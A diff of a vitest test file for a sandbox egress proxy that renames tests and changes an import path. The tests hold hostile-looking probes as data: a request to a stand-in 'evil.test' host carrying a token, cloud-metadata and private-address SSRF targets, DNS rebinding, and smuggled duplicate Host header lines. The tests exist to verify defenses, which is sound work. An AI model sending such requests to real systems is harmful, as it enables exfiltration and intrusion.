@@ -1,7 +1,7 @@
 import { once } from "node:events";
 import type { Duplex } from "node:stream";
 import { afterEach, beforeEach, describe, expect, test } from "vitest";
-import { createEgressRig, type EgressRig, readAll, readHead } from "./testing.ts";
+import { createEgressRig, type EgressRig, readAll, readHead } from "./testing-egress.ts";
 
 let rig: EgressRig;
 let port: number;
@@ -30,7 +30,7 @@ describe("plain HTTP", () => {
     rig.setPolicy({ mode: "allow", rules: [{ host: "site.test", ports: [port], private: true }] });
   });
 
-  test("an allowed host is reached, with a path and its own Host; the proxy's headers stay here", async () => {
+  test("forwards to an allowed host, without the proxy's own headers", async () => {
     const answer = await get(`http://site.test:${port}/a?b=1`, undefined, "Proxy-Authorization: Basic eDp5\r\n");
     expect(answer).toContain(`GET /a?b=1 site.test:${port} undefined`);
     const closed = rig.eventsOf("network.closed")[0] ?? (await rig.event("network.closed"));
@@ -47,7 +47,7 @@ describe("plain HTTP", () => {
     expect(closed.receivedBytes).toBeGreaterThan(50);
   });
 
-  test("N03: another host is denied with a reason, and its name is never looked up", async () => {
+  test("N03: denies another host with a reason, and never looks up its name", async () => {
     const answer = await get(`http://secret-data.evil.test:${port}/x?token=hidden`);
     expect(answer).toMatch(/^HTTP\/1\.1 403 Denied by Caisson: secret-data\.evil\.test is not on this sandbox's list/);
     expect(answer).toContain("x-caisson-denied: host_not_allowed\r\n");
@@ -61,7 +61,7 @@ describe("plain HTTP", () => {
     ]);
   });
 
-  test("N10: an empty list lets nothing through, and neither does no network", async () => {
+  test("N10: denies everything with an empty list or without a network", async () => {
     rig.setPolicy({ mode: "allow", rules: [] });
     expect(await get(`http://site.test:${port}/`)).toContain("x-caisson-denied: host_not_allowed");
     rig.setPolicy({ mode: "none" });
@@ -69,7 +69,7 @@ describe("plain HTTP", () => {
     expect(rig.lookedUp).toEqual([]);
   });
 
-  test("N01: private, metadata and odd addresses are refused, by name and by number", async () => {
+  test("N01: denies private, metadata and odd addresses, by name and by number", async () => {
     rig.setPolicy({ mode: "open" });
     rig.names.set("inner.test", ["10.0.0.7"]).set("meta.test", ["169.254.169.254"]).set("mapped.test", ["::ffff:127.0.0.1"]);
     for (const host of [
@@ -91,7 +91,7 @@ describe("plain HTTP", () => {
       expect(await get(`http://${host}:${port}/`)).toContain("x-caisson-denied: private_address");
   });
 
-  test("N02: the name is resolved once for a connection; a second answer changes nothing", async () => {
+  test("N02: resolves a name once for each connection", async () => {
     const answers = [["127.0.0.1"], ["169.254.169.254"]];
     await using rebinding = await createEgressRig({
       resolve: async () => answers.shift() ?? [],
@@ -107,18 +107,18 @@ describe("plain HTTP", () => {
     }
     expect(await readAll(socket)).toContain("200");
     expect(answers).toHaveLength(1);
-    // The next connection asks again, and the answer is checked again.
+    // The next connection resolves the name again, and its address is checked again.
     const again = await rebinding.dial();
     again.write(`GET http://site.test:${port}/ HTTP/1.1\r\nHost: site.test:${port}\r\nConnection: close\r\n\r\n`);
     expect(await readAll(again)).toContain("x-caisson-denied: private_address");
   });
 
-  test("of several addresses only the allowed ones are used", async () => {
+  test("uses only the allowed ones of several addresses", async () => {
     rig.names.set("site.test", ["169.254.169.254", "::ffff:127.0.0.1"]);
     expect(await get(`http://site.test:${port}/`)).toContain("200 OK");
   });
 
-  test("methods and paths of the rules hold for each request of a connection", async () => {
+  test("applies the methods and paths of rules to each request of a connection", async () => {
     rig.setPolicy({ mode: "allow", rules: [{ host: "site.test", ports: [port], private: true, methods: ["GET"], paths: ["/api"] }] });
     const socket = await rig.dial();
     const send = (method: string, path: string) =>
@@ -133,7 +133,7 @@ describe("plain HTTP", () => {
     expect(await readAll(socket)).toContain("path_not_allowed");
   });
 
-  test("headers by which a server would see another method or path do not get there, where rules decide by them", async () => {
+  test("removes override headers if rules restrict methods or paths", async () => {
     const seen: string[] = [];
     const own = await rig.http((request, response) => {
       seen.push(
@@ -151,7 +151,7 @@ describe("plain HTTP", () => {
     expect(seen).toEqual(["x-other", "x-http-method-override,x-original-url,x-other"]);
   });
 
-  test("a name that does not exist, a server that is not there", async () => {
+  test("reports an unknown name and an unreachable server", async () => {
     rig.setPolicy({ mode: "allow", rules: [{ host: "*", ports: [1, port], private: true }] });
     expect(await get(`http://nowhere.test:${port}/`)).toMatch(
       /^HTTP\/1\.1 502 Unknown host: there is no host named nowhere\.test\r\n[\s\S]*x-caisson-failed: unknown_host\r\n[\s\S]*\r\nUnknown host: GET nowhere/,
@@ -160,16 +160,16 @@ describe("plain HTTP", () => {
     expect(await get("http://site.test:1/")).toMatch(/^HTTP\/1\.1 502 [\s\S]*cannot be reached: the connection was refused/);
   });
 
-  test("https:// without CONNECT is told how to do it", async () => {
+  test("explains that https:// needs CONNECT", async () => {
     expect(await get("https://site.test/")).toMatch(/^HTTP\/1\.1 400 [\s\S]*CONNECT/);
   });
 
-  test("asked for itself, it says what it is", async () => {
+  test("describes itself when requested directly", async () => {
     expect(await get("/", "127.0.0.1")).toMatch(new RegExp(`^HTTP/1\\.1 200 [\\s\\S]*site\\.test:${port}`));
     expect(await get("/other", "127.0.0.1")).toMatch(/^HTTP\/1\.1 404/);
   });
 
-  test("N09: smuggled lines and a Host that is not the target's are refused", async () => {
+  test("N09: rejects smuggled lines and a Host that differs from the target", async () => {
     for (const request of [
       `GET http://site.test:${port}/ HTTP/1.1\r\nHost: other.test\r\n\r\n`,
       `GET http://site.test:${port}/ HTTP/1.1\r\nHost: site.test:${port}\r\nHost: other.test\r\n\r\n`,
@@ -183,7 +183,7 @@ describe("plain HTTP", () => {
     expect(rig.eventsOf("network.denied")[0]).toMatchObject({ reason: "bad_request", count: 1 });
   });
 
-  test("hosts of a registry are asked of the mirror, unless a rule names them", async () => {
+  test("sends requests for registry hosts to the mirror, unless a rule names them", async () => {
     const mirror = {
       serves: (host: string, at: number) => host === "packages.test" && at === 80,
       handle: ({ stream, origin }: { stream: Duplex; origin: URL }) =>
@@ -208,14 +208,14 @@ describe("plain HTTP", () => {
     expect(mirrored.lookedUp).toEqual(["packages.test"]);
   });
 
-  test("S03: no header of a request is in what is said about it", async () => {
+  test("S03: never repeats a request header in answers or events", async () => {
     const answer = await get(`http://evil.test:${port}/`, undefined, "Authorization: Bearer canary-value\r\nCookie: canary-value\r\n");
     expect(answer + JSON.stringify(rig.events)).not.toContain("canary-value");
   });
 });
 
-describe("limits and ends", () => {
-  test("the same denial again and again is one event now and one at the end of the window", async () => {
+describe("limits and shutdown", () => {
+  test("reports a repeated denial once at first and once per window", async () => {
     await using brief = await createEgressRig({ limits: { denialWindowMs: 200, denialsMax: 2 } });
     const send = async (host: string) => {
       const socket = await brief.dial();
@@ -241,7 +241,7 @@ describe("limits and ends", () => {
     ]);
   });
 
-  test("past the limit of connections one is told so", async () => {
+  test("rejects a connection above the limit", async () => {
     await using small = await createEgressRig({ limits: { connectionsMax: 2 } });
     const [first, second] = [await small.dial(), await small.dial()];
     const third = await small.dial();
@@ -250,13 +250,13 @@ describe("limits and ends", () => {
     second.destroy();
   });
 
-  test("a client that says nothing is not waited for for ever", async () => {
+  test("drops a silent client after a while", async () => {
     await using hasty = await createEgressRig({ limits: { firstBytesMs: 50 } });
     expect(await readAll(await hasty.dial())).toBe("");
     expect(hasty.egress.stats().connections).toBe(0);
   });
 
-  test("close ends everything, and what comes later", async () => {
+  test("close ends all connections, and any later ones", async () => {
     port = await rig.http(() => {});
     rig.setPolicy({ mode: "allow", rules: [{ host: "site.test", ports: [port], private: true }] });
     const socket = await rig.dial();
